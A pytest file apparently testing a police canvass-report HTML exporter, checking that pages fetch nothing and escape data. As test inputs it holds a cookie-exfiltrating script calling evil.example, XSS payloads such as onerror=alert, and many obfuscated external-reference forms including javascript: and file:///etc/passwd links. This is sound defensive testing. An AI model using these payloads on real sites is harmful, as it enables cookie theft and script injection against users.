"""A page holds all it needs, and nothing in it runs or is fetched."""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import nbformat
import pytest
from reporting_bench import Bench
from reporting_town import LATITUDE, LONGITUDE, canvass_reads, frame, read, vehicles

from workbench.reporting import canvass_views, views
from workbench.reporting.html import external_references, report_html

META = {
    "title": "Canvass",
    "subject": "Case 26-01873 · Homicide",
    "agency": "Santa Lucera Police Department",
}
EVIL = '<script>fetch("https://evil.example/" + document.cookie)</script>'


def page(*outputs: dict[str, Any], words: str = "", **meta: str) -> str:
    cells = [nbformat.v4.new_markdown_cell(words)] if words else []
    for data in outputs:
        output = nbformat.v4.new_output("display_data", data=data)
        cells.append(nbformat.v4.new_code_cell("secret_code = 1", outputs=[output]))
    return report_html(nbformat.v4.new_notebook(cells=cells), META | meta)


def canvass_page(reads: Any, reason: str = "Shooting, gray sedan seen leaving") -> str:
    seen = vehicles(reads)
    seen.attrs = dict(reads.attrs)
    scene = views.scene_of(LATITUDE, LONGITUDE, 800)
    assert scene is not None
    bench = Bench()
    shown = [
        views.head(
            bench, "Canvass", reads, deck=canvass_views.place(scene), grounds={"reason": reason}
        ),
        canvass_views.summary(reads, seen),
        canvass_views.picture(bench, reads, scene),
        canvass_views.timeline(reads),
        canvass_views.vehicles_table(seen),
        canvass_views.cameras(reads),
        canvass_views.reads_table(reads),
        views.caveats(reads),
    ]
    return page(*(_data(each) for each in shown))


def _data(shown: Any) -> dict[str, Any]:
    if hasattr(shown, "_repr_mimebundle_"):
        return dict(shown._repr_mimebundle_())
    return {"text/html": shown._repr_html_()}


def test_a_whole_report_has_no_external_reference() -> None:
    html = canvass_page(canvass_reads())
    assert external_references(html) == []
    html = html.replace("http-equiv", "")
    for word in ("http", "//www", "cdn", "<script", "<link", "@import", "require", "mathjax"):
        assert word not in html.lower()
    assert html.count("<svg") == 2
    assert html.count('<table class="') == 3


def test_code_stays_in_the_notebook() -> None:
    assert "secret_code" not in page({"text/html": "<p>shown</p>"})


def test_cells_for_the_notebook_alone_are_left_out() -> None:
    cell = nbformat.v4.new_markdown_cell("How to run it", metadata={"tags": ["notebook-only"]})
    assert "How to run it" not in report_html(nbformat.v4.new_notebook(cells=[cell]), META)


def test_the_page_forbids_scripts_and_connections() -> None:
    html = page(words="# x")
    found = re.search(r'<meta content="([^"]*)" http-equiv="Content-Security-Policy"/>', html)
    assert found
    policy = found[1]
    assert "default-src 'none'" in policy
    assert "script" not in policy  # so that default-src rules: none at all
    assert "img-src data:" in policy


def test_print_rules_are_there() -> None:
    html = page(words="x")
    for rule in (
        "@page",
        "counter(page)",
        "table-header-group",
        "break-inside: avoid",
        "@media print",
    ):
        assert rule in html
    assert "Leads, not evidence of guilt; verify before enforcement" in html


def test_what_comes_from_data_cannot_become_markup() -> None:
    rows = [
        read(
            1, plate="7ABX123", camera="C01", camera_name=EVIL, make=EVIL, color='"><img src=x onerror=alert(1)>',
            state="CA", distance_m=40.0, usual="not seen here before", usual_days=0, usual_hour_days=0,
            baseline_days=45, plate_raw=EVIL, candidates=[[EVIL, 0.4]], source_agency=EVIL, governmental=False,
        )
    ]  # fmt: skip
    coverage = canvass_reads().attrs["coverage"]
    coverage[0] |= {
        "name": EVIL,
        "outages": [
            {
                "start": "2026-10-14T04:20:00+00:00",
                "end": "2026-10-14T04:30:00+00:00",
                "reason": EVIL,
            }
        ],
    }
    html = canvass_page(frame(rows, coverage=coverage, caveats=[EVIL], policy_notes=[EVIL]), EVIL)
    assert "<script" not in html.lower()
    assert "<img src=x" not in html
    assert "https[:]//evil.example" in html  # readable, and no address
    assert external_references(html) == []
    assert "&lt;script&gt;" in html


def test_names_cannot_end_the_style_sheet_or_the_title() -> None:
    html = page(
        words="x", subject='a"; } </style><script>alert(1)</script>', agency="</title>\n<b>\\"
    )
    assert "<script" not in html.lower()
    assert html.count("</style>") == 1
    assert html.count("</title>") == 1


@pytest.mark.parametrize(
    "piece",
    [
        '<img src="https://tiles.example/1.png">',
        '<img src="//tiles.example/1.png">',
        "<img src=//tiles.example/1.png>",
        '<img src="\\\\tiles.example\\1.png">',
        '<img src="tiles/1.png">',
        '<img srcset="1.png 2x">',
        '<a href="http://example.org">x</a>',
        '<a href="mailto:a@b.example">x</a>',
        '<a href="javascript:alert(1)">x</a>',
        '<a href="file:///etc/passwd">x</a>',
        '<a href="other.html">x</a>',
        "<p>See https://example.org for more.</p>",
        "<p>See HTTPS://EXAMPLE.ORG for more.</p>",
        "<p>See https&#58;//example.org</p>",
        "<p>See https:&#x2F;&#x2F;example.org</p>",
        "<p>See https&amp;#58;//example.org</p>",
        "<p>https%3A%2F%2Fexample.org</p>",
        '<script>var a = "https:\\/\\/example.org"</script>',
        '"\\u0068ttps://example.org"',
        '"https\\u003a\\u002f\\u002fexample.org"',
        '"https\\x3a//example.org"',
        "<style>@import 'a.css';</style>",
        "<style>@imp\\6f rt 'a.css';</style>",
        "<style>b { background: url(https://example.org/a.png) }</style>",
        "<style>b { background: url(a.png) }</style>",
        "<style>b { background: url( '//example.org/a.png' ) }</style>",
        "<style>b { background: u\\72l(//example.org/a.png) }</style>",
        "<style>b { background: url(ht/**/tps://example.org) }</style>",
        '<link rel="stylesheet" href="data:,">',
        "<script>1</script>",
        '<iframe srcdoc="x"></iframe>',
        '<object data="data:text/html,x"></object>',
        '<svg><image href="https://example.org/a.png"/></svg>',
        '<svg><use xlink:href="//example.org/a.svg#b"/></svg>',
        '<meta http-equiv="refresh" content="0;url=//example.org">',
        '<form action="/x">',
        '<p onclick="alert(1)">x</p>',
        '<video poster="a.png">',
        '<base href="/">',
        "<p>wss://example.org/kernel</p>",
    ],
)
def test_external_references_are_found_in_every_form(piece: str) -> None:
    assert external_references(f"<html><body>{piece}</body></html>"), piece


@pytest.mark.parametrize(
    "piece",
    [
        '<img alt="Map" src="data:image/png;base64,iVBORw0KGgo//8//AAAA==">',
        '<svg><use href="#f1-glyph"/><path clip-path="url(#f1-clip)" d="M 0 0 L 1 1"/></svg>',
        '<a href="#vehicles">Vehicles</a>',
        "<p>21:10–22:10, 3/4 of the window; case 26-01873 // note; on 1/2</p>",
        "<p>Ratio: 3 // 4</p>",
        "<style>.a { color: red; font: 8pt/1.4 serif } /* a comment */</style>",
        "<p>He said: “wait”; data: none; source = camera</p>",
        "<p>tel: none, file: day.jsonl, mailto: nobody</p>",
    ],
)
def test_what_is_no_external_reference_is_let_through(piece: str) -> None:
    assert external_references(f"<html><body>{piece}</body></html>") == []


def test_streams_show_output_but_no_warnings() -> None:
    outputs = [
        nbformat.v4.new_output("stream", name="stdout", text="kept <b>"),
        nbformat.v4.new_output("stream", name="stderr", text="a warning"),
    ]
    notebook = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("1", outputs=outputs)])
    html = report_html(notebook, META)
    assert "kept &lt;b&gt;" in html
    assert "a warning" not in html


def test_a_user_template_of_the_same_name_changes_nothing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = tmp_path / "nbconvert" / "templates" / "report"
    folder.mkdir(parents=True)
    (folder / "conf.json").write_text('{"base_template": null, "mimetypes": {"text/html": true}}')
    (folder / "index.html.j2").write_text("<p>not ours</p>")
    monkeypatch.setenv("JUPYTER_PATH", str(tmp_path))
    assert "not ours" not in page(words="x")
